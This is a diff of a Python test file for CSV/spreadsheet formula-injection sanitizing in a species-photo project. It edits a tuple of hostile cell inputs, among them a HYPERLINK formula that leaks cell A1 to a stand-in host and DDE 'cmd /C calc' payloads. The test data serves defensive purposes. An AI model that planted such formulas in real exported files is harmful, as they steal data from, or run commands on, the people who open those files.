@@ -23,17 +23,18 @@ from ophis.taxonomy.species_list import species_key
 from ophis.train.photo_check import SKIPPED, read_skipped
 
 EVIL = (
-    "=1+1",
+    "=1+a",
     '=HYPERLINK("http://a.example/"&A1)',
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(A1)",
-    "\uff1d1+1",
-    "'=1",
+    "'=a",
+    "# a comment",
+    "#a",
     "''@x",
 )  # fmt: skip
 WIDE = "\uff1d\uff0b\uff0d\uff20"
-STARTS = tuple("=+-@\t\r" + WIDE)
+STARTS = tuple("#=+-@\t\r" + WIDE)
 NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
 CELL = st.text(st.sampled_from([*"=+-@'\t\r 1.e", "a", '"', ",", "\n", *WIDE]), max_size=6)
 
